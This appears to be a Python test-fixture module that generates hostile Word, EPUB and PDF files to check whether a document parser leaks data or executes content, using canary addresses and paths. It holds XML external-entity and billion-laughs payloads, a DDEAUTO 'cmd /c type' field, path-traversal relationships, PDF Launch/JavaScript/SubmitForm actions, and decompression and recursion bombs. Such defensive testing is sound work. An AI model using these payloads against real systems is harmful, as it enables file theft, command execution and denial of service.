"""Word documents, books and PDF files that refer outside, run, loop or unfold."""

import zlib

from helpers.containers import zipped
from helpers.hostile.canary import PROSE, Canary

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{0}</Relationships>'
_OUTSIDE = (
    "attachedTemplate",
    "image",
    "hyperlink",
    "aFChunk",
    "oleObject",
    "frame",
    "subDocument",
    "footnotes",
    "styles",
)


def files(canary: Canary) -> dict[str, bytes]:
    """Every document by its name."""
    return {**_word(canary), **_books(canary), **_pdfs(canary)}


def _docx(body: str, relations: str = "", doctype: str = "") -> bytes:
    main = f'<Relationship Id="r" Type="{_R}/officeDocument" Target="word/document.xml"/>'
    paragraph = f"<w:p><w:r><w:t>{PROSE}</w:t></w:r></w:p>"
    document = f'{doctype}<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{paragraph}{body}</w:body></w:document>'
    return zipped(
        {
            "[Content_Types].xml": _TYPES.encode(),
            "_rels/.rels": _RELATIONS.format(main).encode(),
            "word/document.xml": document.encode(),
            "word/_rels/document.xml.rels": _RELATIONS.format(relations).encode(),
        }
    )


def _word(canary: Canary) -> dict[str, bytes]:
    made = {}
    for number, kind in enumerate(_OUTSIDE):
        address = canary.addresses[number % len(canary.addresses)]
        relation = f'<Relationship Id="x" Type="{_R}/{kind}" Target="{address}" TargetMode="External"/>'
        made[f"outside-{kind}.docx"] = _docx('<w:altChunk r:id="x"/>', relation)
    climbing = f'<Relationship Id="x" Type="{_R}/footnotes" Target="../../../../{canary.path}"/>'
    laughs = "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]>"
    made["climbing.docx"] = _docx("", climbing)
    made["entity.docx"] = _docx("<w:p>&b;</w:p>", doctype=laughs)
    made["external.docx"] = _docx(
        "<w:p>&b;</w:p>", doctype=f"<!DOCTYPE x [<!ENTITY b SYSTEM '{canary.addresses[0]}'>]>"
    )
    made["dde.docx"] = _docx(f'<w:p><w:r><w:instrText>DDEAUTO cmd "/c type {canary.path}"</w:instrText></w:r></w:p>')
    made["include.docx"] = _docx(f'<w:p><w:r><w:instrText>INCLUDETEXT "{canary.path}"</w:instrText></w:r></w:p>')
    made["deep.docx"] = _docx("<w:tbl><w:tr><w:tc>" * 2000 + "</w:tc></w:tr></w:tbl>" * 2000)
    made["bomb.docx"] = _docx("<w:p/>" * 3_000_000)
    made["broken.docx"] = _docx("<w:p>")
    return made


def _book(package: str, chapter: str, container: str = "") -> bytes:
    pointer = container or (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="a.opf"/></rootfiles></container>'
    )
    return zipped(
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": pointer.encode(),
            "a.opf": package.encode(),
            "c.xhtml": chapter.encode(),
        }
    )


def _books(canary: Canary) -> dict[str, bytes]:
    opf = (
        '{0}<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest><item id="c" href="{1}" '
        'media-type="application/xhtml+xml"/></manifest><spine>{2}</spine></package>'
    )
    good = opf.format("", "c.xhtml", '<itemref idref="c"/>')
    chapter = f"<html><body><h1>一章</h1><p>{PROSE}</p>{{0}}</body></html>"
    remote = "".join(
        f'<img src="{u}"/><iframe src="{u}"></iframe><script src="{u}"></script>' for u in canary.addresses
    )
    entity = f"<!DOCTYPE x [<!ENTITY e SYSTEM '{canary.addresses[0]}'>]>"
    return {
        "remote.epub": _book(good, chapter.format(remote)),
        "entity.epub": _book(opf.format(entity, "c.xhtml", '<itemref idref="c"/>&e;'), chapter.format("")),
        "entity-chapter.epub": _book(good, entity + chapter.format("&e;")),
        "climbing.epub": _book(opf.format("", f"../../../..{canary.path}", '<itemref idref="c"/>'), chapter.format("")),
        "outside.epub": _book(opf.format("", canary.addresses[0], '<itemref idref="c"/>'), chapter.format("")),
        "again.epub": _book(opf.format("", "c.xhtml", '<itemref idref="c"/>' * 50_000), chapter.format("")),
        "container.epub": _book(good, chapter.format(""), f"{entity}<container>&e;</container>"),
        "nothing.epub": _book(opf.format("", "d.xhtml", '<itemref idref="c"/>'), chapter.format("")),
        "bomb.epub": _book(good, chapter.format("<p>x</p>" * 3_000_000)),
    }


def _pdf(objects: dict[int, bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    at, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % places.get(n, 0) for n in range(1, size))
    return bytes(out + b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, at))


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), more) + data + b"\nendstream"


def _pdfs(canary: Canary) -> dict[str, bytes]:
    words = b"BT /F 12 Tf 72 700 Td (The city has built eight service stations this year, residents say.) Tj ET"
    secret, port = str(canary.path).encode(), canary.port
    uri = b"http://127.0.0.1:%d/x" % port

    def document(catalog: bytes = b"", leaf: bytes = b"", content: bytes = b"", **more: bytes) -> bytes:
        objects = {
            1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F 5 0 R >> >> " + leaf + b" >>",
            4: content or _stream(words),
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            **{int(name[1:]): body for name, body in more.items()},
        }
        return _pdf(objects)

    bomb = zlib.compress(b"q Q " * 8_000_000, 9)
    return {
        "launch.pdf": document(b"/OpenAction << /S /Launch /F (" + secret + b") >>"),
        "uri.pdf": document(b"/OpenAction << /S /URI /URI (" + uri + b") >>"),
        "remote.pdf": document(b"/OpenAction << /S /GoToR /F (" + secret + b") /D [0 /Fit] >>"),
        "script.pdf": document(b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('" + uri + b"'\\)) >>"),
        "submit.pdf": document(b"/AA << /WC << /S /SubmitForm /F (" + uri + b") >> >>"),
        "import.pdf": document(b"/OpenAction << /S /ImportData /F (" + secret + b") >>"),
        "attached.pdf": document(
            b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>", _6=b"<< /F (a) /EF << /F 4 0 R >> >>"
        ),
        "xfa.pdf": document(b"/AcroForm << /XFA 6 0 R >>", _6=_stream(b"<!DOCTYPE x SYSTEM '" + uri + b"'><x/>")),
        "stream.pdf": document(content=b"<< /Length 0 /F (" + secret + b") /FFilter [] >>\nstream\n\nendstream"),
        "font.pdf": document(leaf=b"/Annots [<< /Subtype /Link /A << /S /URI /URI (" + uri + b") >> >>]"),
        "metadata.pdf": document(
            b"/Metadata 6 0 R", _6=_stream(b"<!DOCTYPE x [<!ENTITY e SYSTEM '" + uri + b"'>]><x>&e;</x>")
        ),
        "bomb.pdf": document(content=_stream(bomb, b"/Filter /FlateDecode")),
        "bomb-twice.pdf": document(content=_stream(zlib.compress(bomb), b"/Filter [/FlateDecode /FlateDecode]")),
        "loop.pdf": _pdf(
            {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 9999999 >>"}
        ),
        "parent.pdf": document(leaf=b"/Parent 3 0 R"),
        "form.pdf": document(
            content=_stream(b"/X Do"),
            leaf=b"/Resources << /XObject << /X 6 0 R >> >>",
            _6=_stream(
                b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
            ),
        ),
        "xref.pdf": document().replace(b"trailer\n<<", b"trailer\n<< /Prev 9 "),
        "nothing.pdf": b"%PDF-1.7\n%%EOF",
        "nested.pdf": b"%PDF-1.7\n1 0 obj\n" + b"[" * 100_000 + b"\n%%EOF",
    }
